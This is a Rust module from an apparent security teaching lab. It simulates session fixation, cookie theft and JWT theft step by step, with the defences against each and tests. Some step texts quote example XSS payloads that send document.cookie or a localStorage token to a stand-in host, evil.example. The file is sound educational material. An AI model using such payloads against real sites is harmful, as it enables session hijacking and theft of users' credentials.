//! Session risks as step-through scenarios: session fixation (a server that keeps the planted id
//! versus one that regenerates it at login) and theft (a session cookie with or without
//! `HttpOnly` / `Secure` / `SameSite`, and a bearer JWT), with how long each stolen credential stays
//! useful.
//!
//! Deterministic: every scenario is a function of its inputs; the GUI steps through `steps`.

use serde::Serialize;

use crate::core::labs::revocation::{self, Strategy};

use crate::core::engine::audit::{SameSite, human_duration};

/// Who acts in a step.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Actor {
    /// The user being attacked.
    Victim,
    /// The attacker.
    Attacker,
    /// The application's server.
    Server,
    /// The victim's browser.
    Browser,
}

impl Actor {
    /// A name for the step list.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Victim => "Victim",
            Self::Attacker => "Attacker",
            Self::Server => "Server",
            Self::Browser => "Browser",
        }
    }
}

/// One step of a scenario.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Step {
    /// Who acts.
    pub actor: Actor,
    /// What happens.
    pub text: String,
    /// `Some(true)` when this step is where the attacker gains, `Some(false)` where a defence
    /// stops them, `None` for neutral steps.
    pub attacker_gains: Option<bool>,
}

fn step(actor: Actor, text: impl Into<String>, attacker_gains: Option<bool>) -> Step {
    Step { actor, text: text.into(), attacker_gains }
}

/// A scenario and its outcome.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Scenario {
    /// Title.
    pub title: String,
    /// The steps, in order.
    pub steps: Vec<Step>,
    /// True when the attacker ends up acting as the victim.
    pub attacker_wins: bool,
    /// How long the stolen credential stays useful, in seconds (`None`: not stolen; infinite
    /// lifetimes are `f64::INFINITY`).
    pub useful_for: Option<f64>,
    /// One line: the outcome.
    pub verdict: String,
    /// The defence.
    pub defence: &'static str,
}

/// Session fixation: the attacker obtains a session id, plants it in the victim's browser, the
/// victim logs in. `regenerate` is whether the server issues a new id at login.
#[must_use]
pub fn fixation(regenerate: bool, session: &SessionLifetimes) -> Scenario {
    let mut steps = vec![
        step(Actor::Attacker, "Visits the site and receives an anonymous session id: sid=A7f3…", None),
        step(
            Actor::Attacker,
            "Plants sid=A7f3… in the victim's browser: a link with the id in the URL, or a cookie set from a \
             sibling subdomain (Domain=.example.com)",
            Some(true),
        ),
        step(Actor::Victim, "Opens the site with the planted id and logs in with their password", None),
    ];
    let useful = if regenerate {
        steps.push(step(
            Actor::Server,
            "Login succeeds: the server discards sid=A7f3… and issues a fresh random id, sid=Q9k2…",
            Some(false),
        ));
        steps.push(step(
            Actor::Attacker,
            "Sends requests with sid=A7f3…: the server knows it only as an anonymous (now destroyed) session",
            Some(false),
        ));
        None
    } else {
        steps.push(step(
            Actor::Server,
            "Login succeeds: the server marks the EXISTING session sid=A7f3… as authenticated",
            Some(true),
        ));
        steps.push(step(
            Actor::Attacker,
            "Sends requests with sid=A7f3…, which they chose: they are logged in as the victim without ever \
             seeing a password or a cookie",
            Some(true),
        ));
        Some(session.stolen_session_useful_for())
    };
    let verdict = match useful {
        None => "Blocked: the id the attacker knows was never authenticated.".to_owned(),
        Some(s) => format!(
            "The attacker is the victim until the session ends: {} (idle timeout {}, absolute limit {}), or at once \
             when the victim logs out, since the server holds the session",
            human_duration(s),
            human_duration(session.idle_timeout),
            human_duration(session.absolute_timeout)
        ),
    };
    Scenario {
        title: format!(
            "Session fixation, server {}",
            if regenerate { "regenerates the id at login" } else { "keeps the id at login" }
        ),
        steps,
        attacker_wins: useful.is_some(),
        useful_for: useful,
        verdict,
        defence: "Issue a new session id at every privilege change (login, sudo, logout); refuse ids the \
                  server did not issue; never accept ids from the URL; use the __Host- cookie prefix so \
                  subdomains cannot set it.",
    }
}

/// The flags of the session cookie under test.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct CookieFlags {
    /// `HttpOnly`.
    pub http_only: bool,
    /// `Secure`.
    pub secure: bool,
    /// `SameSite`.
    pub same_site: SameSite,
}

impl Default for CookieFlags {
    fn default() -> Self {
        Self { http_only: true, secure: true, same_site: SameSite::Lax }
    }
}

/// How long sessions and tokens live, the inputs to "how long does the stolen thing work".
#[derive(Debug, Clone, Copy, PartialEq, Serialize, serde::Deserialize)]
pub struct SessionLifetimes {
    /// Server-side idle timeout of a session, seconds.
    pub idle_timeout: f64,
    /// Server-side absolute session limit, seconds.
    pub absolute_timeout: f64,
    /// Seconds the stolen JWT has left (exp - now); infinite when it has no exp.
    pub jwt_remaining: f64,
}

impl Default for SessionLifetimes {
    fn default() -> Self {
        // OWASP's usual figures: 30 min idle, 8 h absolute; a 1 h access token.
        Self { idle_timeout: 1800.0, absolute_timeout: 8.0 * 3600.0, jwt_remaining: 3600.0 }
    }
}

impl SessionLifetimes {
    /// How long a stolen session cookie keeps working when the attacker keeps it busy and nobody
    /// revokes it: the revocation lab's `session` strategy ([`crate::core::labs::revocation`]) with the
    /// absolute limit as the session's lifetime (the attacker's own requests keep an idle
    /// timeout from firing). A logout or a detected theft would end it at once (exposure 0).
    #[must_use]
    pub fn stolen_session_useful_for(&self) -> f64 {
        stolen_credential_useful_for(Strategy::Session, self.absolute_timeout)
    }

    /// How long a stolen JWT keeps working: the revocation lab's `jwt` strategy over the token's
    /// remaining lifetime (a plain JWT cannot be recalled; logout does not end it). Infinite
    /// for a token without `exp`.
    #[must_use]
    pub fn stolen_jwt_useful_for(&self) -> f64 {
        stolen_credential_useful_for(Strategy::Jwt, self.jwt_remaining)
    }
}

/// How long a copy taken at the start of a credential's life of `lifetime` seconds stays
/// accepted under `strategy`, when nothing is revoked: the end of the revocation model's last
/// span for the copy (a token-stolen scenario whose event comes when everything has expired).
fn stolen_credential_useful_for(strategy: Strategy, lifetime: f64) -> f64 {
    if lifetime.is_nan() || lifetime <= 0.0 {
        return 0.0;
    }
    if lifetime > (revocation::MAX_TIME / 4) as f64 {
        return f64::INFINITY;
    }
    #[allow(clippy::cast_possible_truncation)]
    let ttl = lifetime.ceil() as i64;
    let login_at = 1_700_000_000;
    let scenario = revocation::RevocationScenario {
        name: String::new(),
        description: String::new(),
        login_at,
        token_ttl: ttl,
        access_ttl: ttl,
        leeway: 0,
        event: revocation::Event {
            kind: revocation::EventKind::TokenStolen,
            at: login_at + ttl,
            stolen_at: Some(login_at),
        },
        scale: None,
    };
    let sim = revocation::simulate(&scenario);
    let until = sim.outcome(strategy).subject.iter().map(|span| span.until).max().unwrap_or(login_at);
    (until.min(revocation::MAX_TIME) - login_at).max(0) as f64
}

/// Theft of a session cookie with the given flags: an XSS payload, a sniffer on an open network,
/// and a cross-site request from the attacker's page.
#[must_use]
pub fn cookie_theft(flags: CookieFlags, lifetimes: &SessionLifetimes) -> Scenario {
    let mut steps = vec![step(
        Actor::Victim,
        format!(
            "Logs in; the server sets the session cookie sid=…; {}{}SameSite={}",
            if flags.http_only { "HttpOnly; " } else { "" },
            if flags.secure { "Secure; " } else { "" },
            match flags.same_site {
                SameSite::Strict => "Strict",
                SameSite::Lax => "Lax",
                SameSite::None => "None",
                SameSite::Unset => "(unset)",
            }
        ),
        None,
    )];
    steps.push(step(
        Actor::Attacker,
        "Injects a script into a page the victim views (stored XSS): fetch('//evil.example/?c=' + document.cookie)",
        None,
    ));
    let xss = !flags.http_only;
    steps.push(if xss {
        step(Actor::Browser, "document.cookie includes sid: the cookie is sent to the attacker", Some(true))
    } else {
        step(Actor::Browser, "HttpOnly: document.cookie does not include sid; the script gets nothing", Some(false))
    });
    steps.push(step(
        Actor::Attacker,
        "Listens on the café's open Wi-Fi and lures the victim to any http:// URL of the site",
        None,
    ));
    let sniffed = !flags.secure;
    steps.push(if sniffed {
        step(Actor::Browser, "No Secure flag: the cookie travels in clear over http:// and is captured", Some(true))
    } else {
        step(Actor::Browser, "Secure: the cookie is only ever sent over HTTPS; nothing to capture", Some(false))
    });
    steps.push(step(
        Actor::Attacker,
        "Makes the victim's browser POST to the site from evil.example (CSRF): no theft, the request rides the session",
        None,
    ));
    let csrf = matches!(flags.same_site, SameSite::None | SameSite::Unset);
    steps.push(match flags.same_site {
        SameSite::None => step(Actor::Browser, "SameSite=None: the cookie goes along; the forged request runs as the victim", Some(true)),
        SameSite::Unset => step(
            Actor::Browser,
            "No SameSite: most browsers treat it as Lax now, but not all, and Chrome sends it on cross-site POSTs for 2 minutes after it was set",
            Some(true),
        ),
        SameSite::Lax => step(Actor::Browser, "SameSite=Lax: not sent on cross-site POSTs (only on top-level GET navigation)", Some(false)),
        SameSite::Strict => step(Actor::Browser, "SameSite=Strict: never sent on cross-site requests", Some(false)),
    });
    let stolen = xss || sniffed;
    let useful = stolen.then(|| lifetimes.stolen_session_useful_for());
    if stolen {
        steps.push(step(
            Actor::Attacker,
            "Replays the stolen sid from their own machine: the server cannot tell them from the victim",
            Some(true),
        ));
        steps.push(step(
            Actor::Server,
            "The victim clicks Log out (or an admin revokes the session): the server deletes the session; the stolen sid stops working at once",
            Some(false),
        ));
    }
    let verdict = match (stolen, csrf) {
        (true, _) => format!(
            "Stolen. Useful for up to {} (the session's absolute limit; each request resets the {} idle timeout) — \
             and not a second more once the session is deleted on the server",
            human_duration(useful.unwrap_or(0.0)),
            human_duration(lifetimes.idle_timeout)
        ),
        (false, true) => "Not stolen, but cross-site requests still act as the victim (CSRF).".to_owned(),
        (false, false) => "Blocked: the cookie can be neither read, sniffed nor ridden.".to_owned(),
    };
    Scenario {
        title: "Hijacking a session cookie".into(),
        steps,
        attacker_wins: stolen || csrf,
        useful_for: useful,
        verdict,
        defence: "Set-Cookie: __Host-sid=<128+ random bits>; Path=/; Secure; HttpOnly; SameSite=Lax (or Strict); \
                  short idle and absolute timeouts; delete the session on logout.",
    }
}

/// Theft of a bearer JWT kept where scripts can read it (localStorage, as most SPAs do).
#[must_use]
pub fn jwt_theft(lifetimes: &SessionLifetimes) -> Scenario {
    let useful = lifetimes.stolen_jwt_useful_for();
    let steps = vec![
        step(Actor::Victim, "Logs in; the SPA stores the access token (a JWT) in localStorage", None),
        step(Actor::Attacker, "Injects a script (XSS): fetch('//evil.example/?t=' + localStorage.token)", None),
        step(Actor::Browser, "localStorage has no HttpOnly: the token is sent to the attacker", Some(true)),
        step(
            Actor::Attacker,
            "Sends Authorization: Bearer <token> from anywhere: the signature is genuine",
            Some(true),
        ),
        step(Actor::Victim, "Clicks Log out: the SPA deletes its copy; the server keeps no session to delete", None),
        step(Actor::Server, "Keeps accepting the token: it verifies it statelessly until exp", Some(true)),
    ];
    let verdict = if useful.is_infinite() {
        format!(
            "Stolen, and never expiring: the token has no exp, so {}; nothing on the server can recall it.",
            crate::core::labs::revocation::NO_EXP_CONSEQUENCE
        )
    } else {
        format!(
            "Stolen. Useful for {} (until exp), whatever the victim does: logout does not end a JWT",
            human_duration(useful)
        )
    };
    Scenario {
        title: "Stealing a bearer JWT".into(),
        steps,
        attacker_wins: true,
        useful_for: Some(useful),
        verdict,
        defence: "Short access-token lifetimes (minutes) with rotated refresh tokens; a denylist (jti) or a token \
                  version per user for logout; keep tokens out of script reach (HttpOnly cookie + CSRF defence, or \
                  a backend-for-frontend); sender-constrained tokens (DPoP, mTLS).",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    #[allow(clippy::float_cmp)] // whole seconds, exact in f64
    fn usefulness_comes_from_the_revocation_model() {
        let l = SessionLifetimes { idle_timeout: 1800.0, absolute_timeout: 28_800.0, jwt_remaining: 899.5 };
        assert_eq!(l.stolen_session_useful_for(), 28_800.0, "the session strategy: until its absolute limit");
        assert_eq!(l.stolen_jwt_useful_for(), 900.0, "the jwt strategy counts whole seconds until exp");
        let forever = SessionLifetimes { jwt_remaining: f64::INFINITY, ..l };
        assert_eq!(forever.stolen_jwt_useful_for(), f64::INFINITY, "no exp: never ends");
        let spent = SessionLifetimes { jwt_remaining: -5.0, ..l };
        assert_eq!(spent.stolen_jwt_useful_for(), 0.0, "already expired");
        assert_eq!(SessionLifetimes { jwt_remaining: f64::NAN, ..l }.stolen_jwt_useful_for(), 0.0);
    }

    #[test]
    fn fixation_depends_on_regeneration() {
        let l = SessionLifetimes::default();
        let kept = fixation(false, &l);
        assert!(kept.attacker_wins);
        assert_eq!(kept.useful_for, Some(8.0 * 3600.0));
        assert!(kept.verdict.contains("8 h"), "{}", kept.verdict);
        let regenerated = fixation(true, &l);
        assert!(!regenerated.attacker_wins && regenerated.useful_for.is_none());
        assert_eq!(regenerated.steps.last().unwrap().attacker_gains, Some(false));
    }

    #[test]
    fn cookie_flags_decide_each_theft_vector() {
        let l = SessionLifetimes::default();
        let safe = cookie_theft(CookieFlags::default(), &l);
        assert!(!safe.attacker_wins && safe.useful_for.is_none(), "{}", safe.verdict);
        let no_httponly = cookie_theft(CookieFlags { http_only: false, ..CookieFlags::default() }, &l);
        assert!(no_httponly.attacker_wins && no_httponly.useful_for == Some(l.absolute_timeout));
        assert!(no_httponly.steps.iter().any(|s| s.text.contains("document.cookie includes sid")));
        let no_secure = cookie_theft(CookieFlags { secure: false, ..CookieFlags::default() }, &l);
        assert!(no_secure.steps.iter().any(|s| s.text.contains("captured")));
        let csrf_only = cookie_theft(CookieFlags { same_site: SameSite::None, ..CookieFlags::default() }, &l);
        assert!(csrf_only.attacker_wins && csrf_only.useful_for.is_none(), "CSRF rides, does not steal");
    }

    #[test]
    fn a_stolen_jwt_lives_until_exp_and_a_session_until_the_server_ends_it() {
        let l = SessionLifetimes { idle_timeout: 900.0, absolute_timeout: 3600.0, jwt_remaining: 86_400.0 };
        let jwt = jwt_theft(&l);
        assert_eq!(jwt.useful_for, Some(86_400.0));
        assert!(jwt.verdict.contains("1 day"), "{}", jwt.verdict);
        let forever = jwt_theft(&SessionLifetimes { jwt_remaining: f64::INFINITY, ..l });
        assert!(forever.verdict.contains("never expiring"), "{}", forever.verdict);
        assert!(forever.verdict.contains(crate::core::labs::revocation::NO_EXP_CONSEQUENCE));
        let cookie = cookie_theft(CookieFlags { http_only: false, ..CookieFlags::default() }, &l);
        assert_eq!(cookie.useful_for, Some(3600.0));
    }
}
